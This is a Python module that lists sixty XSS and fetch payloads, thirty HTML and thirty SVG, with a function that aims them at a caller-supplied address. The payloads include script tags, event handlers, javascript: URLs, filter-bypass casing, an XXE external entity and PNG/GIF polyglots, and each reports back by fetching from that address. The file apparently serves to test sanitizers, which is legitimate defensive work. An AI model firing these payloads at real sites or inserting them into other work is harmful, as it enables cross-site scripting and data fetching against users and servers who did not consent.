"""Sixty payloads that would run a script or fetch something, were a page to let them: thirty of HTML, thirty of SVG.
`{at}` stands for an address that somebody listens at; whatever runs opens a dialog."""

# ruff: noqa: E501  a payload is one line

RUN = "alert('ran');fetch('{at}/ran')"

HTML: tuple[str, ...] = (
    "<script>" + RUN + "</script>",
    "<script src={at}/s.js></script>",
    '"><script>' + RUN + "</script>",
    "'><script>" + RUN + "</script>",
    "</textarea><script>" + RUN + "</script>",
    "</title><script>" + RUN + "</script>",
    "</script><script>" + RUN + "</script>",
    "--><script>" + RUN + "</script>",
    "<ScRiPt>" + RUN + "</sCrIpT>",
    "<scr<script>ipt>" + RUN + "</scr</script>ipt>",
    '<img src=x onerror="' + RUN + '">',
    "<img src={at}/i.png>",
    "<img srcset='{at}/i.png 2x'>",
    '" autofocus onfocus="' + RUN + '" x="',
    "' onmouseover='" + RUN + "' x='",
    '<body onload="' + RUN + '">',
    '<input autofocus onfocus="' + RUN + '">',
    '<details open ontoggle="' + RUN + '">x</details>',
    '<video autoplay onloadstart="' + RUN + '"><source src={at}/v.mp4></video>',
    '<audio src={at}/a.mp3 onerror="' + RUN + '">',
    '<iframe src="javascript:' + RUN + '"></iframe>',
    '<iframe srcdoc="<script>' + RUN + '</script>"></iframe>',
    "<object data={at}/o.html></object>",
    "<embed src={at}/e.html>",
    "<link rel=stylesheet href={at}/c.css>",
    "<style>@import '{at}/c.css';</style>",
    '<div style="background:url({at}/b.png)">x</div>',
    '<meta http-equiv=refresh content="0;url={at}/m">',
    "<base href={at}/>",
    '<form action={at}/f><button autofocus formaction="javascript:' + RUN + '">x</button></form>',
)

_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '

SVG: tuple[str, ...] = (
    _OPEN + "onload=\"" + RUN + "\"/>",
    _OPEN + "><script>" + RUN + "</script></svg>",
    _OPEN + "><script type=\"text/ecmascript\"><![CDATA[" + RUN + "]]></script></svg>",
    _OPEN + "><script xlink:href=\"{at}/s.js\"/></svg>",
    _OPEN + "><script href=\"{at}/s.js\"/></svg>",
    _OPEN + "><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"" + RUN + "\"/></foreignObject></svg>",
    _OPEN + "><foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"{at}/i\"/></foreignObject></svg>",
    _OPEN + "><foreignObject><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"" + RUN + "\"/></foreignObject></svg>",
    _OPEN + "><image xlink:href=\"{at}/i.png\" width=\"9\" height=\"9\"/></svg>",
    _OPEN + "><image href=\"{at}/i.png\" onerror=\"" + RUN + "\"/></svg>",
    _OPEN + "><image href=\"x\" onerror=\"" + RUN + "\"/></svg>",
    _OPEN + "><use xlink:href=\"{at}/u.svg#a\"/></svg>",
    _OPEN + "><use href=\"data:image/svg+xml,&lt;svg id='a' onload='" + RUN + "'/&gt;#a\"/></svg>",
    _OPEN + "><a xlink:href=\"javascript:" + RUN + "\"><rect width=\"99\" height=\"99\"/></a></svg>",
    _OPEN + "><animate onbegin=\"" + RUN + "\" attributeName=\"x\" dur=\"1s\"/></svg>",
    _OPEN + "><set attributeName=\"onload\" to=\"" + RUN + "\" begin=\"0s\"/></svg>",
    _OPEN + "><animate attributeName=\"xlink:href\" values=\"javascript:" + RUN + "\" begin=\"0s\"/></svg>",
    _OPEN + "><style>@import url({at}/c.css);</style></svg>",
    _OPEN + "><style>rect {{ fill: url({at}/p.svg#a) }}</style><rect width=\"9\" height=\"9\"/></svg>",
    _OPEN + "><rect style=\"fill:url({at}/p.svg#a)\" width=\"9\" height=\"9\"/></svg>",
    _OPEN + "><filter id=\"f\"><feImage xlink:href=\"{at}/f.png\"/></filter><rect filter=\"url(#f)\" width=\"9\" height=\"9\"/></svg>",
    _OPEN + "><mask id=\"m\"/><rect mask=\"url({at}/m.svg#m)\" width=\"9\" height=\"9\"/></svg>",
    _OPEN + "><text><tref xlink:href=\"{at}/t.svg#a\"/></text></svg>",
    _OPEN + "><handler xmlns:ev=\"http://www.w3.org/2001/xml-events\" ev:event=\"load\">" + RUN + "</handler></svg>",
    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"{at}/x.dtd\">]>" + _OPEN + "><text>&x;</text></svg>",
    "<?xml version=\"1.0\"?><!DOCTYPE svg SYSTEM \"{at}/svg.dtd\">" + _OPEN + "/>",
    "<?xml-stylesheet type=\"text/css\" href=\"{at}/c.css\"?>" + _OPEN + "/>",
    "<?xml-stylesheet type=\"text/xsl\" href=\"{at}/t.xsl\"?>" + _OPEN + "/>",
    "\x89PNG\r\n\x1a\n" + _OPEN + "onload=\"" + RUN + "\"/>",
    "GIF89a/*" + _OPEN + "onload=\"" + RUN + "\"/>*/=0;" + RUN,
)  # fmt: skip


def payloads(at: str) -> tuple[str, ...]:
    """All sixty, aimed at an address."""
    return tuple(each.replace("{at}", at).replace("{{", "{").replace("}}", "}") for each in (*HTML, *SVG))
